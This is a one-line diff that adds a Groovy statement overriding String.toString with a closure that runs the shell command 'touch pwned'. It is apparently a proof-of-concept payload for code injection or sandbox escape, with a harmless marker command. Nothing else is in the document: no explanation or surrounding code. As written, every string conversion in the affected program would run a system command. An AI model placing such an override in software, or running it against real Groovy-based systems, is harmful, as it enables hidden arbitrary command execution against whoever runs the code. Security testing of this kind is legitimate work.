@@ -1,0 +1,1 @@
+String.metaClass.toString = { 'touch pwned'.execute() }
